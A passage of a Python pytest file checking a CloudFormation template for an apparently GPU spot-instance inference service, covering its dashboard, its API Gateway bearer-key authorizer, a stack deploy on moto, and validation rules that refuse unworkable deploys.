    assert endpoint_down["TreatMissingData"] == "breaching"
    assert endpoint_down["EvaluationPeriods"] == "3"


def test_dashboard_shows_published_metrics(template: dict[str, Any]) -> None:
    body = json.loads(Stack(template).resolve(template["Resources"]["Dashboard"]["Properties"]["DashboardBody"]))
    named: set[str] = set()
    for widget in body["widgets"]:
        for line in widget["properties"].get("metrics", []):
            if isinstance(line[0], dict):
                named |= set(re.findall(r'MetricName=\\?"(\w+)\\?"', line[0]["expression"]))
            elif line[0] != "...":
                namespace, name = line[0], line[1]
                if namespace == "Spotkeeper":
                    assert dict(zip(line[2:-1:2], line[3:-1:2], strict=True)) == {
                        "AutoScalingGroupName": GROUP_NAME,
                        "service": "spotkeeper",
                    }
                    named.add(name)
                else:
                    assert (namespace, name) in AWS_METRICS
    assert named <= SPOTKEEPER_METRICS
    assert {"Healthy", "ProbeLatency", "QueueSize", "CapacityMode", "Interruptions", "GatewayRequests",
            "GatewayErrors", "GatewayLatency"} <= named  # fmt: skip


def test_gateway_streams_through_a_rest_api_behind_the_authorizer(cfn: dict[str, Any]) -> None:
    stack = Stack(cfn)
    api = cfn["Resources"]["GatewayApi"]
    assert api["Type"] == "AWS::ApiGateway::RestApi"
    props = stack.resolve(api["Properties"])
    assert props["ApiKeySourceType"] == "AUTHORIZER"
    assert props["EndpointConfiguration"]["Types"] == ["REGIONAL"]
    body = props["Body"]
    assert set(body["paths"]) == {"/", "/{proxy+}"}
    for path in body["paths"].values():
        method = path["x-amazon-apigateway-any-method"]
        integration = method["x-amazon-apigateway-integration"]
        assert integration["type"] == "aws_proxy"
        assert integration["responseTransferMode"] == "STREAM"
        assert integration["uri"] == (
            f"arn:aws:apigateway:{REGION}:lambda:path/2021-11-15/functions/<GatewayFunction.Arn>"
            "/response-streaming-invocations"
        )
        assert {"bearerKey": []} in method["security"]
        assert {"api_key": []} in method["security"]
    authorizer = body["components"]["securitySchemes"]["bearerKey"]["x-amazon-apigateway-authorizer"]
    assert authorizer["identitySource"] == "method.request.header.Authorization"
    assert authorizer["authorizerResultTtlInSeconds"] == 300
    key = "spk_" + "aB3_-" * 9  # the shape spotkeeper.auth issues
    for accepted in [f"Bearer {key}", f"bearer {key}", f"BEARER  {key}"]:
        assert re.fullmatch(authorizer["identityValidationExpression"], accepted)
    # API Gateway itself turns away what cannot be a key, without invoking the authorizer
    for refused in ["Basic dXNlcjpwYXNz", "Bearer spk_short", "Bearer sk-openai-style-key-0123456789abcdef0123"]:
        assert not re.fullmatch(authorizer["identityValidationExpression"], refused)
    plan = stack.resolve(cfn["Resources"]["GatewayUsagePlan"]["Properties"])
    assert plan["Quota"]["Period"] == "DAY"
    assert {"RateLimit", "BurstLimit"} == set(plan["Throttle"])


# ------------------------------------------------------------------------------------------------------------
# The template deploys on moto: the drill's local template (spotkeeper_local.embedded_aws), what `make demo` runs
# ------------------------------------------------------------------------------------------------------------
# moto warns for each resource type its CloudFormation skips (the attach mode's lifecycle hooks).
@pytest.mark.filterwarnings("ignore:Tried to parse:UserWarning")
@pytest.mark.parametrize("mode", ["create", "attach"])
def test_stack_creates_on_moto(template: dict[str, Any], mode: str) -> None:
    with mock_aws():
        session = boto3.Session(region_name=REGION)
        ec2 = session.client("ec2")
        vpc = ec2.create_vpc(CidrBlock="10.0.0.0/16")["Vpc"]["VpcId"]
        subnets = [
            ec2.create_subnet(VpcId=vpc, CidrBlock=f"10.0.{i}.0/24", AvailabilityZone=f"{REGION}{az}")["Subnet"][
                "SubnetId"
            ]
            for i, az in enumerate("ab")
        ]
        ami = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
        session.client("ssm").put_parameter(Name=AMI_PARAMETER, Value=ami, Type="String")
        parameters = {
            "VpcId": vpc,
            "FleetSubnetIds": ",".join(subnets),
            "FunctionSubnetIds": ",".join(subnets),
            "Mode": mode,
            # moto splits list parameters it is given, but not list defaults.
            "InstanceTypes": "g5.2xlarge,g6.2xlarge,g6e.2xlarge",
        }
        if mode == "attach":
            parameters |= {
                "ExistingGroupName": "existing-tgi",
                "ExistingEipAllocationId": ec2.allocate_address(Domain="vpc")["AllocationId"],
            }
        cloudformation = session.client("cloudformation")
        cloudformation.create_stack(
            StackName=STACK_NAME,
            TemplateBody=json.dumps(local_template(template).body),
            Parameters=[{"ParameterKey": k, "ParameterValue": v} for k, v in parameters.items()],
            Capabilities=["CAPABILITY_IAM", "CAPABILITY_NAMED_IAM"],
        )
        stack = cloudformation.describe_stacks(StackName=STACK_NAME)["Stacks"][0]
        assert stack["StackStatus"] == "CREATE_COMPLETE"
        outputs = {o["OutputKey"]: o["OutputValue"] for o in stack["Outputs"]}
        group = GROUP_NAME if mode == "create" else "existing-tgi"
        assert outputs["GroupName"] == group
        rules = {r["Name"]: r for r in session.client("events").list_rules()["Rules"]}
        assert set(rules) == {
            f"{STACK_NAME}-{n}"
            for n in ["spot-interruption", "rebalance", "lifecycle", "health-probe", "launch-unsuccessful",
                      "alarm-state", "fall-forward"]
        }  # fmt: skip
        assert json.loads(rules[f"{STACK_NAME}-lifecycle"]["EventPattern"])["detail"]["AutoScalingGroupName"] == [group]
        key_schema = session.client("dynamodb").describe_table(TableName=outputs["StateTableName"])["Table"][
            "KeySchema"
        ]
        assert key_schema == [{"AttributeName": "pk", "KeyType": "HASH"}, {"AttributeName": "sk", "KeyType": "RANGE"}]
        if mode == "create":
            (asg,) = session.client("autoscaling").describe_auto_scaling_groups(AutoScalingGroupNames=[group])[
                "AutoScalingGroups"
            ]
            overrides = asg["MixedInstancesPolicy"]["LaunchTemplate"]["Overrides"]
            assert [o["InstanceType"] for o in overrides] == ["g5.2xlarge", "g6.2xlarge", "g6e.2xlarge"]
            assert (asg["MinSize"], asg["MaxSize"], asg["DesiredCapacity"]) == (1, 2, 1)
            assert outputs["EipAllocationId"].startswith("eipalloc-")


# ------------------------------------------------------------------------------------------------------------
# Rules: CloudFormation evaluates them before it creates anything, with the rule functions only
# ------------------------------------------------------------------------------------------------------------
# "Rule-specific intrinsic functions" (CloudFormation template reference): nothing else may appear in a rule's
# RuleCondition or Assertions. cfn-lint accepts e.g. Fn::Join there; CloudFormation rejects the template.
RULE_FUNCTIONS = {
    "Fn::And",
    "Fn::Contains",
    "Fn::EachMemberEquals",
    "Fn::EachMemberIn",
    "Fn::Equals",
    "Fn::Not",
    "Fn::Or",
    "Fn::RefAll",
    "Fn::ValueOf",
    "Fn::ValueOfAll",
    "Ref",
}


def _non_rule_functions(node: Any, path: str = "") -> list[str]:
    """Every function in ``node`` that is not a rule function, with where it is."""
    found = []
    if isinstance(node, list):
        for i, item in enumerate(node):
            found += _non_rule_functions(item, f"{path}[{i}]")
    elif isinstance(node, dict):
        for key, value in node.items():
            if (key.startswith("Fn::") or key == "Condition") and key not in RULE_FUNCTIONS:
                found.append(f"{path}/{key}")
            found += _non_rule_functions(value, f"{path}/{key}")
    return found


def _rule_parts(template: dict[str, Any]) -> list[tuple[str, Any]]:
    parts = []
    for name, rule in template["Rules"].items():
        assert set(rule) <= {"RuleCondition", "Assertions"}, name
        if "RuleCondition" in rule:
            parts.append((f"{name}/RuleCondition", rule["RuleCondition"]))
        for i, assertion in enumerate(rule["Assertions"]):
            assert set(assertion) <= {"Assert", "AssertDescription"}, name
            parts.append((f"{name}/Assertions[{i}]", assertion["Assert"]))
    return parts


def test_rules_use_only_rule_functions(template: dict[str, Any]) -> None:
    parts = _rule_parts(template)
    assert len(parts) >= 5
    for where, expression in parts:
        assert _non_rule_functions(expression) == [], where


def test_the_rule_function_check_catches_what_cfn_lint_lets_through(tmp_path: Path) -> None:
    # The assertion this project once shipped: Fn::Join inside Fn::Equals.
    (tmp_path / "shipped.yaml").write_text(
        """
Rules:
  CreateModeNeedsFleetSubnets:
    RuleCondition: !Equals [!Ref Mode, create]
    Assertions:
      - Assert: !Not [!Equals [!Join ["", !Ref FleetSubnetIds], ""]]
        AssertDescription: Mode=create needs FleetSubnetIds.
"""
    )
    shipped = load_template(tmp_path / "shipped.yaml")
    ((where, expression),) = [p for p in _rule_parts(shipped) if "Assertions" in p[0]]
    assert _non_rule_functions(expression) == ["/Fn::Not[0]/Fn::Equals[0]/Fn::Join"]
    assert _non_rule_functions({"Fn::Equals": [{"Fn::If": ["IsCreate", "a", "b"]}, "a"]}) == ["/Fn::Equals[0]/Fn::If"]
    assert _non_rule_functions({"Fn::Not": [{"Condition": "IsCreate"}]}) == ["/Fn::Not[0]/Condition"]


def _evaluate_rule_expression(node: Any, parameters: dict[str, Any]) -> Any:
    """A rule expression the way CloudFormation evaluates it, for the functions the template's rules use."""
    if isinstance(node, list):
        return [_evaluate_rule_expression(item, parameters) for item in node]
    if not isinstance(node, dict):
        return node
    ((function, argument),) = node.items()
    if function == "Ref":
        return parameters[argument]
    values = _evaluate_rule_expression(argument, parameters)
    if function == "Fn::Equals":
        return values[0] == values[1]
    if function == "Fn::Not":
        return not values[0]
    if function == "Fn::And":
        return all(values)
    if function == "Fn::Or":
        return any(values)
    if function == "Fn::Contains":
        return values[1] in values[0]
    raise NotImplementedError(function)


def _failed_rules(template: dict[str, Any], **overrides: str) -> list[str]:
    """The AssertDescriptions CloudFormation would answer a deploy with these parameters with."""
    parameters = Stack(template, parameters=overrides).parameters
    failed = []
    for rule in template["Rules"].values():
        if "RuleCondition" in rule and not _evaluate_rule_expression(rule["RuleCondition"], parameters):
            continue
        failed += [
            a["AssertDescription"] for a in rule["Assertions"] if not _evaluate_rule_expression(a["Assert"], parameters)
        ]
    return failed


def test_rules_refuse_a_deploy_that_could_never_serve(template: dict[str, Any]) -> None:
    subnets = {"FleetSubnetIds": "subnet-0a,subnet-0b"}
    # The defaults with subnets deploy: the default model is not gated
    assert _failed_rules(template, **subnets) == []
    assert template["Parameters"]["ModelIsGated"]["Default"] == "false"
    # Create mode without subnets, or with an empty entry, is refused
    assert any("FleetSubnetIds" in f for f in _failed_rules(template))
    assert any("FleetSubnetIds" in f for f in _failed_rules(template, FleetSubnetIds="subnet-0a,"))
    # A gated model without the token secret is refused: every launch would be abandoned at its deadline
    gated = {**subnets, "ModelId": "meta-llama/Llama-3.1-8B-Instruct", "ModelIsGated": "true"}
    assert [f for f in _failed_rules(template, **gated) if "HfTokenSecretArn" in f]
    assert _failed_rules(template, **gated, HfTokenSecretArn=SECRET_ARN) == []
    # Attach mode needs its group and Elastic IP, and no fleet subnets
    assert len(_failed_rules(template, Mode="attach")) == 2
    assert _failed_rules(template, **ATTACH) == []


def test_token_secret_description_says_what_the_secret_holds(template: dict[str, Any]) -> None:
    description = template["Parameters"]["HfTokenSecretArn"]["Description"]
    assert "access token" in description and "HF_TOKEN" in description
    assert "HfTokenSecretKmsKeyArn" in description
